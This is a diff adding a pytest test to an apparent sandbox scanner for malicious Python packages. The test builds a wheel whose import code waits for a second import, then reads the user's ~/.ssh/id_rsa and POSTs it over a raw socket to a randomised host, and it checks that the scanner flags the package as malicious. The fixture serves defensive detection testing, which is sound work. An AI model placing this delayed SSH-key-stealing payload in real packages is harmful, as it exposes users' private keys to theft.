@@ -9,7 +9,7 @@ from pathlib import Path
 
 import pytest
 
-from sandbox.models import Verdict
+from sandbox.models import Phase, Verdict
 from tests.conftest import run_cli
 from tests.fixtures.builders import Randomised, build_wheel
 
@@ -52,3 +52,46 @@ def test_a_ci_gate_on_a_runner_variable_through_a_copy_of_the_environment_wakes(
     assert report.network is not None
     sent = {x.canary for x in report.network.exfiltration}
     assert {"ACTIONS_RUNTIME_TOKEN", "GITHUB_TOKEN"} <= sent, sent
+
+
+def test_a_payload_that_waits_for_a_second_import_is_caught(tmp_path: Path) -> None:
+    """The first import only leaves a marker under the allowed cache; the second one (a
+    user's next session) reads the SSH key and POSTs it. A library with no command was
+    imported once on main (exercise had nothing to run): clean."""
+    r = Randomised()
+    host, port, name = r.address(), r.port(), r.name("warm")
+    marker = f"~/.cache/.{r.name('s')}"
+    src = textwrap.dedent(
+        f"""\
+        import os, socket
+
+        _m = os.path.expanduser({marker!r})
+        if os.path.exists(_m):
+            try:
+                data = open(os.path.expanduser("~/.ssh/id_rsa"), "rb").read()
+            except OSError:
+                data = b""
+            s = socket.socket()
+            s.settimeout(3)
+            try:
+                s.connect(({host!r}, {port}))
+                s.sendall(b"POST /c HTTP/1.1\\r\\nHost: x.invalid\\r\\nContent-Length: "
+                          + str(len(data)).encode() + b"\\r\\n\\r\\n" + data)
+                s.recv(100)
+            except OSError:
+                pass
+            finally:
+                s.close()
+        else:
+            os.makedirs(os.path.dirname(_m), exist_ok=True)
+            open(_m, "w").close()
+        """
+    )
+    whl = build_wheel(tmp_path, name, "1.0", {f"{name}/__init__.py": src})
+    code, report = run_cli(tmp_path, str(whl))
+    assert report is not None
+    assert report.verdict is Verdict.MALICIOUS and code == 1, report.verdict_reason
+    ps010 = [f for f in report.findings if f.rule_id == "PS010"]
+    assert ps010 and ps010[0].phase is Phase.EXERCISE, [(f.rule_id, f.phase) for f in report.findings]
+    ex = next(p for p in report.phases if p.phase is Phase.EXERCISE and p.pass_name == "default")
+    assert any("imported again" in p for p in ex.problems), ex.problems
